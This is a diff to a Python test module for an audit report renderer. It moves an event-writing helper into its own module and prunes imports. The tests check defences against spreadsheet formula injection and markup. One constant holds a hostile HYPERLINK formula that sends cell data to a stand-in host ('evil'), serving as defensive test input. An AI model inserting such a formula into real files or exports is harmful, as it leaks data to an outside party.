@@ -4,7 +4,6 @@ formula injection, HTML and Markdown markup)."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
@@ -12,10 +11,9 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from clock import rfc3339_ns
+from audit_events import write
 
-from webhook.audit import log as audit_log
-from webhook.audit import records, report, report_render
+from webhook.audit import report, report_render
 
 HOSTILE = '=HYPERLINK("http://evil/"&A1)'
 
@@ -52,23 +50,6 @@ def alert(pod: str) -> dict[str, Any]:
             "container.image.repository": "registry.example.com/web/app",
         },
     }
-
-
-def write(directory: Path, events: list[tuple[str, str, dict[str, Any]]]) -> None:
-    times = iter(t for t, _, _ in events)
-    original = records.now_ns
-    records.now_ns = lambda: rfc3339_ns(next(times))  # the simulated clock
-    try:
-
-        async def run() -> None:
-            log = await audit_log.AuditLog.open(directory, signing_key_path=None, origin="t", writer="w")
-            for _, kind, content in events:
-                await log.append(kind, content)  # type: ignore[arg-type]
-            await log.close()
-
-        asyncio.run(run())
-    finally:
-        records.now_ns = original
 
 
 @pytest.fixture
